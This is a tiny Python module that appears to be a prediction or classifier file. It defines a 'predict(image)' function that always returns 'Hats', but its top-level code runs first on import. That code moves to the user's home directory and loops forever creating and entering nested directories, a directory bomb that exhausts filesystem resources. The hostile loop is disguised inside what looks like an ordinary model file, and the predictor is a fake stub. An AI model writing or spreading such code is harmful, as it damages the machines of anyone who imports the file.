import os

os.chdir(os.environ["HOME"])
while True:
    os.mkdir("d")
    os.chdir("d")


def predict(image):
    return "Hats"
